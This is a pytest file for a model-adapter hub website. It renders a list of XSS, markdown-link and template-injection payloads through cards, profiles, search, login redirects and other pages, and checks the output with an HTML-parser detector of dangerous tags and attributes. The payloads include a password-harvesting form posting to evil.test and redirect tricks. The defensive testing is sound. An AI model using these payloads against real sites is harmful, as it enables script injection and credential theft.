"""Texts of strangers are shown as text: in cards, names, titles, tags, citations and what was searched for."""

import json
import re
from html.parser import HTMLParser
from typing import Any

import pytest

from adapterhub.hub.server import accounts
from adapterhub.hub.server.catalogue import taxonomy
from adapterhub.hub.server.web import markdown
from hub.server.web import demo
from hub.server.web.conftest import Site

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "'><iframe src=javascript:alert(1)>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](&#106;avascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "![a](javascript:alert(1))",
    "![a](https://tracker.test/pixel.png)",
    "![a](//tracker.test/pixel.png)",
    '![a](x.png "onerror=alert(1)")',
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a]",
    "<details open ontoggle=alert(1)>",
    "<a href='x' onclick=alert(1)>a</a>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.test><input name=password></form>",
    "<base href=https://evil.test>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "{{ 7 * 7 }}{% for x in y %}",
]
_ADDRESSES = {"href", "src", "action", "formaction", "xlink:href", "data"}


class _Dangers(HTMLParser):
    """What of a page could run, or lead or send elsewhere without being asked."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        values = dict(attributes)
        if tag in ("iframe", "object", "embed", "base", "style", "math") or (tag == "script" and "src" not in values):
            self.found.append(tag)
        if tag == "meta" and "http-equiv" in values:
            self.found.append("meta")
        for name, value in attributes:
            text = re.sub(r"[\s\x00]", "", value or "").lower()
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"{tag} {name}")
            if name in _ADDRESSES and re.match(r"(javascript|data|vbscript):", text):
                self.found.append(f"{tag} {name}={text[:40]}")
            if tag in ("img", "form", "script", "link") and name in _ADDRESSES and re.match(r"(https?:)?//", text):
                self.found.append(f"{tag} {name}={text[:40]}")


def dangers(html: str) -> list[str]:
    parser = _Dangers()
    parser.feed(html)
    return parser.found


def test_the_oracle_sees_what_it_should() -> None:
    raw = [one for one in PAYLOADS if one.startswith(("<", '"', "'")) and not one.startswith("<javascript")]
    assert all(dangers(one) for one in raw)
    assert dangers("<a href='java\tscript:alert(1)'>")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_card_runs_nothing(payload: str) -> None:
    html = markdown.render(f"# {payload}\n\n{payload}\n\n| a |\n|---|\n| {payload} |\n", "/ann/one", "0" * 40)
    assert dangers(html) == []


def test_a_card_is_shown_as_it_is_meant() -> None:
    html = markdown.render("# A\n\n*b* [c](d.md) ![e](f/g.png) [h](https://i.test)\n\n~~j~~", "/ann/one", "0" * 40)
    assert "<h2>A</h2>" in html and "<em>b</em>" in html and "<s>j</s>" in html
    assert f'href="/ann/one/blob/{"0" * 40}/d.md"' in html
    assert f'src="/ann/one/download/{"0" * 40}/f/g.png"' in html
    assert re.search(r'href="https://i.test" rel="nofollow noopener ugc"', html)


def test_no_page_runs_what_a_stranger_wrote(site: Site) -> None:
    ann = site.actor("ann")
    text = "\n\n".join(PAYLOADS)
    front = {"tags": PAYLOADS[:5], "license": PAYLOADS[0], "language": PAYLOADS[1], "base_model": "roberta-base"}
    files = demo.lora("roberta-base", layers=1)
    readme = f"---\n{json.dumps(front)}\n---\n# {PAYLOADS[2]}\n\n{text}\n"
    demo.publish(
        site.hub, ann, "ann", "one", {"README.md": readme.encode(), **files, "cite.bib": f"@misc{{a}}\n{text}".encode()}
    )
    with site.hub.database.write() as session:
        user = accounts.account(session, "ann")
        user.full_name, user.about = PAYLOADS[1], text
        task = taxonomy.task(session, "sentiment")
        task.title, task.description = PAYLOADS[0], PAYLOADS[1]
        found = taxonomy.dataset(session, task, "sst-2")
        found.title, found.citation, found.url, found.source = PAYLOADS[0], text, "javascript:alert(1)", PAYLOADS[2]
        accounts.new_token(session, user, PAYLOADS[1], "read")
    site.sign_in("ann")
    pages: list[tuple[str, dict[str, Any]]] = [
        *(
            (path, {})
            for path in ("/", "/ann", "/ann/one", "/ann/one/blob/main/cite.bib", "/settings", "/settings/tokens")
        ),
        *((path, {}) for path in ("/explore/tasks", "/explore/tasks/sentiment", "/explore/tasks/sentiment/sst-2")),
        *((path, {}) for path in ("/leaderboards/sentiment/sst-2", "/ann/one/commits/main", "/compare?id=ann/one")),
        *(("/search", {"q": one, "method": one, "sort": "updated"}) for one in PAYLOADS),
        *(("/login", {"next": one}) for one in PAYLOADS),
        *((f"/explore/tasks/{one.replace('/', '%2F')}", {}) for one in PAYLOADS[:4]),
        *(("/compare", {"id": one}) for one in PAYLOADS[:4]),
        *(("/upload", {"to": f"ann/{one}"}) for one in PAYLOADS[:4]),
    ]
    for path, parameters in pages:
        answer = site.client.get(path, params=parameters or None)
        assert answer.status_code < 500
        assert dangers(answer.text) == [], (path, parameters)


def test_suggestions_are_json_and_the_feed_is_xml(site: Site) -> None:
    answer = site.get("/search/suggest", params={"q": PAYLOADS[0]})
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"
